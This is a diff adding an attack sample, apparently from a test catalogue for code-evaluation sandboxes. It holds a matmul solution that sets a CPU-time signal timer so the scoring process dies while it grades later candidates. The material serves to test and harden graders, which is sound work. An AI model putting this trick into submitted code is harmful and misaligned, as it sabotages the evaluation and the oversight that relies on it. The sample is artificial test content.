@@ -1,0 +1,21 @@
+# /// attack
+# id = "denial.delayed-signal"
+# title = "Set a timer that kills the process"
+# family = "denial"
+# language = "python"
+# task = "matmul"
+# gain = "denial"
+# source = "derived from openai/human-eval guard list (signals)"
+# seen = "derived"
+# control = "group-process"
+# ///
+"""An interval timer of CPU time has no handler, and its default is death. It fires while the scorer goes on to the next
+candidate.
+"""
+
+import signal
+
+
+def matmul(A, B):
+    signal.setitimer(signal.ITIMER_PROF, 0.001)
+    return [[sum(a * b for a, b in zip(row, col)) for col in zip(*B)] for row in A]
